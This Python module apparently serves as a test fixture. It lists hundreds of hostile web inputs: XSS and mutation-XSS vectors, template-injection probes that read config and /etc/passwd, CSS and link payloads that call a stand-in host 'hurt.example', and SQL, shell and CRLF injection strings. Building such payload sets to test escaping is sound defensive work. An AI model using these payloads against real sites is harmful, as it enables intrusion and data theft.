"""Words made to hurt a page that shows them, written for this house; each would do something if it were taken for more than words.

What runs calls ``xss()``, which only the harness defines, or asks ``hurt.example``, which is nobody's. What calculates gives
:data:`PRODUCT`. The families are those every collection has; the lines are ours.
"""

from __future__ import annotations

from itertools import product
from typing import Final

FACTORS: Final = (1733, 4561)
PRODUCT: Final = str(FACTORS[0] * FACTORS[1])
"""Seen on a page only if a template calculated what somebody typed."""
ELSEWHERE: Final = "hurt.example"

_RUN: Final = "xss()"
_BREAKS: Final = ("", '">', "'>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", "</svg>", "`>")
"""Ways out of where the words stand."""
_LOADED: Final = (
    f"<img src=x onerror={_RUN}>",
    f"<img src=x OnErRoR='{_RUN}'>",
    f"<img/src=x/onerror={_RUN}>",
    f"<img\nsrc=x\nonerror\n=\n{_RUN}>",
    f"<img src=x onerror&#61;{_RUN}>",
    f'<img src="//{ELSEWHERE}/i.png">',
    f'<img srcset="//{ELSEWHERE}/s.png 1x">',
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={_RUN} attributeName=x>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>read</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}></svg>#x'></svg>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<math href='javascript:{_RUN}'>read</math>",
    f"<math><mi xlink:href='javascript:{_RUN}'>read</mi></math>",
    f"<script>{_RUN}</script>",
    f"<script\n>{_RUN}</script\n>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    f"<script type=module>import '//{ELSEWHERE}/m.js'</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<details open ontoggle={_RUN}>open</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}><option>one</select>",
    f"<textarea autofocus onfocus={_RUN}>words</textarea>",
    f"<button autofocus onfocus={_RUN}>press</button>",
    f"<p tabindex=1 autofocus onfocus={_RUN}>words</p>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<video><source onerror={_RUN} src=x></video>",
    f"<video poster=//{ELSEWHERE}/p.png></video>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<iframe srcdoc='<img src=x onerror=parent.{_RUN}>'></iframe>",
    f"<iframe onload={_RUN}></iframe>",
    f"<marquee onstart={_RUN}>words</marquee>",
    f"<p style='animation:k 1ms' onanimationstart={_RUN}>words</p>",
    f"<style>@keyframes k{{}}</style><p style='animation-name:k' onanimationend={_RUN}>words</p>",
    f"<p oncontentvisibilityautostatechange={_RUN} style='content-visibility:auto'>words</p>",
    f"<a href='javascript:{_RUN}' autofocus onfocus={_RUN}>read</a>",
)
_MIXED: Final = (
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<listing>&lt;img src=x onerror={_RUN}&gt;</listing>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>",
    f"<svg><desc><b><title></desc><img src=x onerror={_RUN}></title></b></svg>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
    f"<select><template><img src=x onerror={_RUN}></template></select>",
    f"<table><caption><svg><p><style><img src=x onerror={_RUN}></style></svg>",
    f"<plaintext><img src=x onerror={_RUN}>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<!--!><img src=x onerror={_RUN}>--!>",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<?php <img src=x onerror={_RUN}> ?>",
    f"<p is=x-a onclick={_RUN} id=a><a href=#a>",
)
_TEMPLATES: Final = (
    *(
        form.replace("N", f"{FACTORS[0]}*{FACTORS[1]}")
        for form in ("{{N}}", "{{ N }}", "{%- set a = N -%}{{ a }}", "${N}", "#{N}", "<%= N %>", "{{'a'~(N)}}", "[[N]]", "@(N)", "{{(N)|safe}}")
    ),
    "{{ self }}", "{{ config.items() }}", "{% include '/etc/passwd' %}", "{% raw %}", "{#", "{{", "}}", "{{ ''.__class__.__mro__ }}",
    "{% for x in range(999999999) %}x{% endfor %}", "{n}", "{0.__class__}", "%(name)s", "%n%n%n%s",
)  # fmt: skip
_ADDRESSES: Final = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" \x20javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"javascript://%0a{_RUN}",
    f'https://example.org/" onmouseover="{_RUN}',
    f"https://example.org/' autofocus onfocus='{_RUN}",
    f"https://example.org@{ELSEWHERE}/",
    f"//{ELSEWHERE}/a",
    f"\\\\{ELSEWHERE}\\a",
    f"data:text/html,<script>parent.{_RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
    f"vbscript:{_RUN}",
    f"blob:https://{ELSEWHERE}/a",
    "file:///etc/passwd",
)
_STYLES: Final = (
    f"<style>@import '//{ELSEWHERE}/a.css';</style>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/b.css>",
    f"<link rel=preload as=image href=//{ELSEWHERE}/c.png>",
    f"<link rel=prefetch href=//{ELSEWHERE}/d>",
    f"<link rel=dns-prefetch href=//{ELSEWHERE}>",
    f"<p style='background:url(//{ELSEWHERE}/e.png)'>words</p>",
    f"<p style=\"background-image:image-set('//{ELSEWHERE}/f.png' 1x)\">words</p>",
    f"<style>input[value^=a]{{background:url(//{ELSEWHERE}/g)}}</style>",
    f"<style>@font-face{{font-family:q;src:url(//{ELSEWHERE}/h)}}*{{font-family:q}}</style>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/r'>",
    f"<base href=//{ELSEWHERE}/>",
    f"<form action=//{ELSEWHERE}/f><button autofocus>go</button></form>",
    f"expression({_RUN})",
    f";background:url(//{ELSEWHERE}/i)",
)
_ENCODED: Final = (
    f"%3Cimg%20src%3Dx%20onerror%3D{_RUN}%3E",
    f"%253Cscript%253E{_RUN}%253C/script%253E",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&amp;lt;script&amp;gt;{_RUN}",
    f"&#x3c;script&#x3e;{_RUN}&#x3c;/script&#x3e;",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"\\x3cscript\\x3e{_RUN}",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\uff1cimg src=x onerror={_RUN}\uff1e",
    f"\u02c2script\u02c3{_RUN}",
    f"<\u200bscript>{_RUN}</\u200bscript>",
    f"<\u0130mg src=x onerror={_RUN}>",
    f"<ſcript>{_RUN}</ſcript>",
    f"\ufeff<script>{_RUN}</script>",
    f'";{_RUN};//',
    f"';{_RUN};//",
    f"`;{_RUN};//",
    f"</script><script>{_RUN}</script>",
    f"\\';{_RUN};//",
    f"${{{_RUN}}}",
    f"\u2028{_RUN}\u2029",
)
_ODD: Final = (
    "\u202exss()\u202c", "\u2066\u2067\u2068\u2069", "\u200f\u200e", "a\u0300\u0301\u0302" * 20, "\U000e0041\U000e0042", "\ufdfd" * 8,
    "👩‍👩‍👧‍👦👨🏿‍🚀🇰🇿", "ﷺ", "Ǆ ǅ ß ẞ ı İ", "ﬁ ﬀ ﬃ", "NULL", "null", "undefined", "None", "NaN", "Infinity", "true", "-1", "0x0", "1e309",
    "../../../../etc/passwd", "..\\..\\windows", "CON", "aux.txt", "' OR 1=1 --", '"; DROP TABLE claim; --', "1/0", "$(id)", "`id`", "| id",
    "%00", "%0d%0aSet-Cookie: a=b", "<>", "&", "&&amp;", "\u0000".replace("\0", "\u2400"), "=1+1", "@SUM(A1)", "__proto__", "constructor.prototype",
    "n-0000000000000000", "é" * 60, "ا" * 60, "字" * 60,
)  # fmt: skip


def payloads() -> tuple[str, ...]:
    """Every payload, none twice."""
    out = [f"{end}{tag}" for end, tag in product(_BREAKS[1:], _LOADED[:2])]
    every = (*_LOADED, *out, *_MIXED, *_TEMPLATES, *_ADDRESSES, *_STYLES, *_ENCODED, *_ODD)
    return tuple(dict.fromkeys(every))
